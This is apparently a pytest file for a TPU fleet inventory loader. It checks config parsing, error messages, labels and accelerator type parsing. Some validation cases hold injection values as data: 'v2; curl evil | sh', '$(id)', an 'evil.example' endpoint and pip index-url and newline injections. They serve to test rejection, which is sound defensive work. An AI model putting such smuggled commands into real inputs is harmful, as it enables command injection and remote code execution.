"""The cloud part of an inventory: what may be written, and what a slice consists of."""

from collections.abc import Mapping
from pathlib import Path

import pytest

from chaoslab.core.errors import PlanError
from chaoslab.fleet.remote.inventory import Inventory, LearnerPlace, SyncerPlace, load
from chaoslab.fleet.remote.settings import Ssh
from chaoslab.fleet.remote.slices import TpuEntry, accelerator
from chaoslab.fleet.settings import FleetRequest
from tests import hostile

ENTRY: Mapping[str, str] = {
    "type": "v5litepod-16", "runtime": "v2-alpha-tpuv5-lite", "zone": "us-east5-b",
}  # fmt: skip
TEXT = """\
name: vines
project: my-project
ssh: {user: ubuntu}
syncer: {host: 10.0.0.2}
learners:
  learner-0: {tpu: {type: v5litepod-16, runtime: v2-alpha-tpuv5-lite, zone: us-east5-b}}
  learner-1: {hosts: [10.0.0.3], region: us}
lifetime: 4h
repair: {preemptions: 5, wait: 10m}
python: python3
"""


def written(folder: Path, text: str = TEXT) -> Path:
    path = folder / "fleet.yaml"
    path.write_text(text)
    return path


def test_slices_are_read_and_hosts_by_address_are_left_to_others(tmp_path: Path) -> None:
    cloud = load(written(tmp_path))
    assert cloud.require_slices() == {"learner-0": TpuEntry(**ENTRY)}
    assert cloud.lifetime_s == 4 * 3600.0
    assert (cloud.repair.preemptions, cloud.repair.failures, cloud.repair.wait_s) == (5, 3, 600.0)


@pytest.mark.parametrize(
    ("old", "new", "says"),
    [
        ("runtime:", "runtimes:", "6:41: .*`runtimes`.*`runtime`"),
        ("lifetime: 4h", "lifetime: 4", "8:11: .*4s"),
        ("lifetime: 4h\n", "", "lifetime"),
        ("lifetime: 4h", "lifetime: 0s", "lifetime"),
        ("v5litepod-16", "v5litepod", "yaml:6:.*learner-0.tpu.type"),
        ("v5litepod-16", "v5litepod-5", "yaml:6:.*learner-0.tpu.type"),
        ("us-east5-b", "us-east5", "yaml:6:.*zone"),
        ("my-project", "My Project", "yaml:2:.*project"),
        ("name: vines", "name: Vines", "yaml:1:.*name"),
        ("v2-alpha-tpuv5-lite", "'v2; curl evil | sh'", "yaml:6:.*runtime"),
        ("python: python3", "endpoint: 10.0.0.9:80", "yaml:10:.*endpoint"),
        ("python: python3", "endpoint: tpu.evil.example:443", "yaml:10:.*endpoint"),
    ],
)
def test_a_mistake_is_named_with_its_place(tmp_path: Path, old: str, new: str, says: str) -> None:
    with pytest.raises(PlanError, match=says):
        load(written(tmp_path, TEXT.replace(old, new, 1)))


def test_a_slice_gives_its_learner_labels_unless_they_are_written(tmp_path: Path) -> None:
    assert load(written(tmp_path)).labels == {
        "learner-0": {"region": "us-east5", "generation": "v5e"},
        "learner-1": {"region": "us"},
    }
    own = TEXT.replace("us-east5-b}}", "us-east5-b}, region: near, generation: mine}")
    assert load(written(tmp_path, own)).labels["learner-0"] == {
        "region": "near", "generation": "mine",
    }  # fmt: skip


def test_a_plan_has_as_many_processes_for_a_learner_as_its_slice_has_hosts(tmp_path: Path) -> None:
    found = load(written(tmp_path))
    found.require({"learner-0": 4, "learner-1": 1})
    with pytest.raises(PlanError, match="hosts: 4"):
        found.require({"learner-0": 1})


def test_the_ssh_fleet_refuses_slices_and_names_the_fleet_that_has_them(tmp_path: Path) -> None:
    with pytest.raises(PlanError, match="tpu-vm"):
        Ssh(inventory=str(written(tmp_path))).factory(FleetRequest(learners={"learner-1": 1}))


@pytest.mark.parametrize(
    "key",
    ["name", "project", "endpoint", "public_key", "type", "runtime", "zone", "network",
     "subnetwork", "reservation"],
)  # fmt: skip
def test_hostile_words_are_refused_wherever_they_stand(tmp_path: Path, key: str) -> None:
    for word in filter(None, hostile.words(tmp_path / "canary")):
        with pytest.raises(PlanError):
            made_with(key, word)


def made_with(key: str, word: str) -> Inventory:
    """An inventory whose own key, or that of its slice, is this word."""
    is_of_cloud = key in ("name", "project", "endpoint", "public_key")
    entry = TpuEntry(**ENTRY if is_of_cloud else {**ENTRY, key: word})
    usual = {"name": "vines", "project": "my-project", **({key: word} if is_of_cloud else {})}
    return Inventory(
        **usual,  # type: ignore[arg-type]
        syncer=SyncerPlace(host="10.0.0.2"),
        learners={"learner-0": LearnerPlace(tpu=entry)},
        lifetime_s=1.0,
    )


def test_an_inventory_without_a_slice_is_none_of_the_cloud(tmp_path: Path) -> None:
    text = "".join(line for line in TEXT.splitlines(keepends=True) if "learner-0" not in line)
    with pytest.raises(PlanError, match="tpu"):
        load(written(tmp_path, text)).require_slices()


@pytest.mark.parametrize(
    "more",
    [
        {"labels": {"Team": "a"}},
        {"labels": {"team": "A b"}},
        {"labels": {"chaoslab-fleet": "peas"}},
        {"network": "$(id)"},
        {"spot": True, "reservation": "mine"},
        *({"libraries": (one,)} for one in ("--index-url=http://x", "jax\n--pre", "jax\r-r", "")),
    ],
)
def test_what_the_api_or_a_label_cannot_be_is_refused(more: Mapping[str, object]) -> None:
    with pytest.raises(PlanError):
        TpuEntry(**ENTRY, **more)  # type: ignore[arg-type]  # wrong on purpose


@pytest.mark.parametrize(
    ("type_", "generation", "chips", "hosts"),
    [
        ("v2-8", "v2", 4, 1),
        ("v3-32", "v3", 16, 4),
        ("v4-8", "v4", 4, 1),
        ("v4-16", "v4", 8, 2),
        ("v4-384", "v4", 192, 48),
        ("v5litepod-1", "v5e", 1, 1),
        ("v5litepod-8", "v5e", 8, 1),
        ("v5litepod-16", "v5e", 16, 4),
        ("v5p-8", "v5p", 4, 1),
        ("v5p-128", "v5p", 64, 16),
        ("v5p-12288", "v5p", 6144, 1536),
        ("v6e-8", "v6e", 8, 1),
        ("v6e-256", "v6e", 256, 64),
    ],
)
def test_chips_and_hosts_of_a_type(type_: str, generation: str, chips: int, hosts: int) -> None:
    found = accelerator(type_)
    assert (found.generation, found.chips, found.hosts) == (generation, chips, hosts)


@pytest.mark.parametrize(
    "type_",
    ["v5p-7", "v9-8", "v4", "v4-0", "8", "v2-16", "v3-16", "v4-24", "v4-8320", "v5p-192",
     "v5p-200",
     "v5litepod-2", "v5litepod-5", "v5litepod-512", "v6e-12", "v6e-008"],
)  # fmt: skip
def test_what_is_no_type(type_: str) -> None:
    with pytest.raises(PlanError):
        accelerator(type_)
